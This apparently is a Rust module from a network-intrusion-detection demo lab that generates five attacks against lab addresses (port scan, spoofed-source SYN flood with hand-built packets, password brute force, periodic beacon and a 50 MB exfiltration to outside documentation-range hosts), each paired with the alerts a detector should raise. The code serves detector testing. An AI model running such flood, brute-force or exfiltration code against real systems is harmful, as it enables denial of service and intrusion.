//! The five attacks of the demo. They reach only addresses of the lab.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};

use super::server::port;
use super::{client, net, sleep};
use crate::lab::{OUTSIDE, host};
use crate::random::Random;

/// One attack of the demo.
pub struct Attack {
    /// As on the command line.
    pub name: &'static str,
    /// Where it runs.
    pub from: &'static str,
    /// What a person reads when it starts.
    pub story: &'static str,
    /// The types that are right for it.
    pub types: &'static [&'static str],
    /// Addresses, or beginnings of addresses, of which an alert about it names one as source.
    pub sources: &'static [&'static str],
    /// The same for destinations. An alert with many destinations names none.
    pub targets: &'static [&'static str],
}

/// In the order of the demo.
pub const ATTACKS: [Attack; 5] = [
    Attack {
        name: "port-scan",
        from: "client7",
        story: "10.77.0.107 tries 1,000 ports of 10.77.0.11, 300 a second",
        types: &["PortScan"],
        sources: &["10.77.0.107"],
        targets: &["10.77.0.11"],
    },
    Attack {
        name: "syn-flood",
        from: OUTSIDE,
        story: "3,000 SYN a second to 10.77.0.11:80, from forged addresses in 192.0.2.0/24",
        types: &["DDoS", "DoS"],
        sources: &["192.0.2."],
        targets: &["10.77.0.11"],
    },
    Attack {
        name: "brute-force",
        from: OUTSIDE,
        story: "203.0.113.99 tries 15 passwords a second at 10.77.0.12:22",
        types: &["BruteForce"],
        sources: &["203.0.113.99"],
        targets: &["10.77.0.12"],
    },
    Attack {
        name: "beacon",
        from: "client5",
        story: "10.77.0.105 reports to 203.0.113.177:443 once a second",
        types: &["Bot"],
        sources: &["10.77.0.105"],
        targets: &["203.0.113.177"],
    },
    Attack {
        name: "exfiltration",
        from: "client4",
        story: "10.77.0.104 sends 50 MB to 198.51.100.200:443, 10 MB a second",
        types: &["Exfiltration"],
        sources: &["10.77.0.104"],
        targets: &["198.51.100.200"],
    },
];

/// Runs the attack of this name, inside its namespace, to its end.
pub fn run(name: &str, random: Random) -> Result<()> {
    match name {
        "port-scan" => port_scan(),
        "syn-flood" => syn_flood(random).context("SYN flood"),
        "brute-force" => brute_force(),
        "beacon" => beacon(random),
        "exfiltration" => exfiltration().context("exfiltration"),
        _ => bail!("there is no role `{name}` in the lab"),
    }
}

/// Keeps a pace whatever each turn costs: turn `n` starts at `n / rate`.
struct Pace {
    start: Instant,
    rate: f64,
}

impl Pace {
    fn new(rate: f64) -> Pace {
        Pace { start: Instant::now(), rate }
    }

    fn wait_for(&self, turn: u64) {
        let due = self.start + Duration::from_secs_f64(turn as f64 / self.rate);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
}

fn port_scan() -> Result<()> {
    let pace = Pace::new(300.0);
    for port in 1..=1_000_u16 {
        pace.wait_for(u64::from(port));
        let to = SocketAddr::new(host("web").v4().into(), port);
        // Refused, as nearly all are, or open: the scan goes on.
        let _ = TcpStream::connect_timeout(&to, Duration::from_millis(200));
    }
    Ok(())
}

fn syn_flood(mut random: Random) -> Result<()> {
    let sender = net::RawSender::open().context("a raw socket needs root")?;
    let target = host("web").v4();
    let pace = Pace::new(3_000.0);
    for turn in 0..18_000 {
        if turn % 15 == 0 {
            pace.wait_for(turn);
        }
        let bits = random.bits();
        let source = Ipv4Addr::new(192, 0, 2, 1 + (bits % 254) as u8);
        let packet =
            syn((source, 1024 + (bits >> 16) as u16 % 60_000), (target, port::HTTP), (bits >> 32) as u32);
        match sender.send(&packet, target) {
            // The link is full for a moment: as good as sent.
            Err(error) if error.raw_os_error() == Some(105) => {}
            other => other?,
        }
    }
    Ok(())
}

/// An IPv4 packet with a TCP SYN (RFC 791, RFC 9293).
fn syn((src, src_port): (Ipv4Addr, u16), (dst, dst_port): (Ipv4Addr, u16), sequence: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&40_u16.to_be_bytes());
    packet[4..6].copy_from_slice(&(sequence as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&src.octets());
    packet[16..20].copy_from_slice(&dst.octets());
    packet[20..22].copy_from_slice(&src_port.to_be_bytes());
    packet[22..24].copy_from_slice(&dst_port.to_be_bytes());
    packet[24..28].copy_from_slice(&sequence.to_be_bytes());
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
    let checksum = tcp_checksum(&packet);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// Over the addresses, protocol and length (the pseudo-header) and the segment, whose own checksum is 0.
fn tcp_checksum(packet: &[u8; 40]) -> u16 {
    let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum: u32 = words.sum::<u32>() + 6 + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    !(((folded & 0xffff) + (folded >> 16)) as u16)
}

fn brute_force() -> Result<()> {
    let pace = Pace::new(15.0);
    let server = SocketAddr::new(host("login").v4().into(), port::LOGIN);
    for turn in 0..150 {
        pace.wait_for(turn);
        // A turn takes longer than its share of the pace, so guesses overlap, as the tools do it.
        std::thread::spawn(move || -> io::Result<bool> {
            let mut stream = net::dial_from(Ipv4Addr::new(203, 0, 113, 99), server)?;
            client::try_password(&mut stream, &format!("guess{turn:04}"))
        });
    }
    sleep(0.5);
    Ok(())
}

fn beacon(mut random: Random) -> Result<()> {
    let pace = Pace::new(1.0);
    let server = SocketAddr::new(Ipv4Addr::new(203, 0, 113, 177).into(), port::HTTPS);
    for turn in 0..20 {
        pace.wait_for(turn);
        sleep(random.between(0.0, 0.03));
        client::post(&mut net::dial(server)?, 96, 0)?;
    }
    Ok(())
}

fn exfiltration() -> Result<()> {
    let server = SocketAddr::new(Ipv4Addr::new(198, 51, 100, 200).into(), port::HTTPS);
    client::post(&mut net::dial(server)?, 50_000_000, 10_000_000)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_over_a_packet_with_its_checksum_is_zero() {
        for sequence in [0, 1, 0xffff_ffff, 0x1234_5678] {
            let packet =
                syn((Ipv4Addr::new(192, 0, 2, 7), 1024), (Ipv4Addr::new(10, 77, 0, 11), 80), sequence);
            assert_eq!(tcp_checksum(&packet), 0, "{packet:02x?}");
        }
    }

    #[test]
    fn a_syn_has_the_bytes_of_the_standards() {
        let packet = syn((Ipv4Addr::new(192, 0, 2, 7), 0x1234), (Ipv4Addr::new(10, 77, 0, 11), 80), 1);
        assert_eq!(packet[..2], [0x45, 0]);
        assert_eq!(packet[12..24], [192, 0, 2, 7, 10, 77, 0, 11, 0x12, 0x34, 0, 80]);
        assert_eq!(packet[32..34], [0x50, 0x02]);
    }
}
